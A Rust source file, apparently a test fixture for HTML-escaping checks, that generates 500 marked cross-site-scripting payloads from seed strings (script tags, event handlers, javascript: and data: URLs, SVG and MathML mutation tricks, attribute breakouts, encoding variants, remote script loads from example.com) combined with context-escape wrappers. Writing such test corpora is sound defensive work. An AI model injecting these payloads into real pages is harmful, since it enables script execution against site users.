//! Texts that would be markup or script if a page forgot to escape them once: seeds and what stands around them.

/// What runs, or changes the page, where it is taken for markup; `~` is the marker of the payload.
const SEEDS: [&str; 50] = [
    // Elements and their events.
    r#"<script>alert('~')</script>"#,
    r#"<SCRIPT SRC=//example.com/~.js></SCRIPT>"#,
    r#"<img src=x onerror=alert('~')>"#,
    r#"<img src="x" onerror="alert('~')">"#,
    r#"<img/src='x'/onerror='~'>"#,
    "<img\u{0C}src=x\u{0C}onerror=~>",
    r#"<details open ontoggle=alert('~')>"#,
    r#"<input autofocus onfocus="alert('~')">"#,
    r#"<iframe srcdoc="&lt;script&gt;~&lt;/script&gt;"></iframe>"#,
    r#"<object data="data:text/html;base64,~"></object>"#,
    r#"<base href="//example.com/~/">"#,
    r#"<link rel=stylesheet href="//example.com/~.css">"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:~">"#,
    r#"<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline' ~">"#,
    r#"<form action="//example.com/~"><button>~</button></form>"#,
    // Drawings and formulas.
    r#"<svg onload=alert('~')>"#,
    r#"<svg><script>~</script></svg>"#,
    r#"<svg><animate onbegin=alert('~') attributeName=x dur=1s>"#,
    r#"<svg><a xlink:href="javascript:~"><text x=20 y=20>~</text></a></svg>"#,
    r#"<svg><foreignObject><body onload='~'></foreignObject></svg>"#,
    r##"<svg><use href="data:image/svg+xml;base64,~#x"/></svg>"##,
    r#"<math><mi xlink:href="data:text/html,~">~</mi></math>"#,
    // What a second reading of the page makes of it.
    r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=~&gt;">"#,
    r#"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=~ src>">"#,
    r#"<noscript><p title="</noscript><img src=x onerror=~>">"#,
    r#"<template><script>~</script></template>"#,
    r#"<table><td><select><option><script>~</script></select><b>"#,
    // Addresses.
    r#"<a href="javascript:alert('~')">~</a>"#,
    r#"<a href="jav&#x09;ascript:~">~</a>"#,
    "<a href=\"java\tscript:~\">~</a>",
    r#"<a href='data:text/html,<script>~</script>'>~</a>"#,
    r#"javascript:alert('~')"#,
    r#"data:text/html,<script>~</script>"#,
    // Out of an attribute, with each quote and without.
    r#"" onmouseover="alert('~')" x=""#,
    r#"' onfocus='alert(~)' autofocus='"#,
    r#"` onclick=`alert(~)`"#,
    r#"x onerror=~ "#,
    // Comments, sections, declarations.
    r#"<!--><script>~</script>-->"#,
    r#"<!-- ~ --!><img src=x onerror=~>"#,
    r#"<![CDATA[<script>~</script>]]>"#,
    r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "~">]><x>&y;</x>"#,
    // Other spellings.
    r#"&lt;script&gt;~&lt;/script&gt;"#,
    r#"&#60;script&#x3e;~&#60;/script&#x3e;"#,
    r#"\u003cscript\u003e~\u003c/script\u003e"#,
    "\u{FF1C}script\u{FF1E}~\u{FF1C}/script\u{FF1E}\u{2028}<script>~</script>",
    "<scr\0ipt>~</scr\0ipt>\u{202E}>tpircs<",
    // Out of JSON, script, templates and styles.
    r#"{"name":"</script><script>~</script>"}"#,
    r#"\"};alert('~');//${alert('~')}{{constructor.constructor('~')()}}"#,
    r#"<style>@import '//example.com/~';*{background:url("javascript:~")}</style>"#,
    r#"<div style="width:expression(alert('~'))">}</style><script>~</script>"#,
];

/// What stands before and behind a seed: ways out of where it may have been put.
const AROUND: [(&str, &str); 10] = [
    ("", ""),
    ("\">", ""),
    ("'>", "<'"),
    ("</title>", "<title>"),
    ("</textarea></style></script></noscript>", ""),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
    ("`>", "`"),
    ("<", ">"),
    ("\0\u{FEFF}", "\0"),
];

/// How many payloads there are.
pub(crate) const COUNT: usize = SEEDS.len() * AROUND.len();

/// The name of a payload, which stands in it: `xss137`.
fn marker(number: usize) -> String {
    format!("xss{:03}", number % COUNT)
}

/// A payload; its marker stands where it would run, and at its end, which no shortening cuts off.
pub(crate) fn hostile(number: usize) -> String {
    let marker = marker(number);
    let seed = SEEDS[number % SEEDS.len()].replace('~', &marker);
    let (before, behind) = AROUND[number / SEEDS.len() % AROUND.len()];
    format!("{before}{seed}{behind} {marker}")
}

/// A text for the same place that nobody could take for markup.
pub(crate) fn harmless(number: usize) -> String {
    format!("calm text {}", marker(number))
}
